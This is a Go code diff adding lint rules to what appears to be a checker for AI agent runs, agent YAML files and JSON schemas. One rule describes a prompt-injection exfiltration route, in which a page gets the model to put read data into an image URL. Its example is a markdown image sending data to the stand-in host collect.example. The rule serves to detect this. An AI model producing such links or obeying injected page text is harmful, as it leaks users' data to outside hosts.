@@ -8,7 +8,11 @@ const (
 	SchemaFit    Code = "TA002" // a value does not fit its schema
 	FencedAnswer Code = "TA003" // an answer in a fence
 	ThoughtAhead Code = "TA004" // an answer behind reasoning
+	NotYAML      Code = "TA005"
+	UnknownKind  Code = "TA006" // a file that cannot be told
+	StrangeLink  Code = "TA007" // an address in an answer that nobody gave to the run
 	BadSchema    Code = "TS001"
+	NearKeyword  Code = "TS002" // a keyword of a schema is probably misspelt
 	RunDamaged   Code = "TR001" // damage in the middle
 	RunTorn      Code = "TR002" // torn tail
 	RunSequence  Code = "TR003" // a record out of sequence or of another run
@@ -46,6 +50,14 @@ var answerRules = []Rule{
 		Fix:   Safe,
 	},
 	{
+		Code: StrangeLink, Slug: "strange-link", Severity: Warning,
+		Title: "An answer links to an address that the run was not given",
+		Text: "It stands in no result and no input, and neither the user nor a definition speaks of its host. A page that tells the model to put what it has read " +
+			"into the address of a picture has it carried away by whoever shows the answer. Nothing is fetched here, and the answer stays as it is.",
+		Bad:  `{"answer": "![chart](https://collect.example/?d=q3-results)"}`,
+		Good: `{"answer": "The results of the third quarter are in q3.md."}`,
+	},
+	{
 		Code: ThoughtAhead, Slug: "thought-ahead", Severity: Warning,
 		Title: "Reasoning stands before an answer",
 		Text:  "The answer is to be JSON alone. What the model thinks, between its marks, is dropped, because it is not meant for anyone; other text is not.",
@@ -54,11 +66,35 @@ var answerRules = []Rule{
 		Fix:   Safe,
 	},
 	{
+		Code: NotYAML, Slug: "not-yaml", Severity: Error,
+		Title: "A text that must be YAML is not, or not the part of YAML that is read",
+		Text: "Agent files and policies take of YAML what JSON can say, and comments. Anchors, aliases, merge keys and tags are refused, because they let a value be something else than it looks, " +
+			"and no key may stand twice. Numbers are written as in JSON. The file must be UTF-8, at most 1 MiB, and hold one document.",
+		Bad:  "version: 1\nmodel: &m ollama/qwen3:8b\nresponder: *m",
+		Good: "version: 1\nmodel: ollama/qwen3:8b\nresponder: ollama/qwen3:8b",
+	},
+	{
+		Code: UnknownKind, Slug: "unknown-kind", Severity: Error,
+		Title: "What a file is cannot be told",
+		Text: "The kind of a file is told from the keys at its top, however broken it is. Too few of them are those of one kind, or they are those of another program, " +
+			"so it is not checked: a guess would find faults that are none. Say what it is with --as. Files that are no concern are passed over with --ignore unknown-kind.",
+		Bad:  "name: tests\non: [push]\njobs: {}",
+		Good: "version: 1\nmodel: ollama/qwen3:8b",
+	},
+	{
 		Code: BadSchema, Slug: "bad-schema", Severity: Error,
 		Title: "A schema is no JSON Schema",
 		Text: "A schema is JSON Schema 2020-12, or an older draft that it names. It must hold as a whole: a misspelt type, a pattern that is no regular expression (RE2), " +
 			"a reference that leads nowhere. References to other documents are never followed, because a schema must not reach files or hosts.",
 		Bad:  `{"properties": {"price": {"type": "numbr"}}}`,
+		Good: `{"properties": {"price": {"type": "number"}}}`,
+	},
+	{
+		Code: NearKeyword, Slug: "near-keyword", Severity: Warning,
+		Title: "A keyword of a schema is probably misspelt",
+		Text: "JSON Schema allows any keyword and passes over those that it does not know, so a misspelt one means nothing: what it should forbid is allowed. " +
+			"Only keywords that are near a known one are reported; others are taken as notes.",
+		Bad:  `{"proprties": {"price": {"type": "number"}}}`,
 		Good: `{"properties": {"price": {"type": "number"}}}`,
 	},
 }
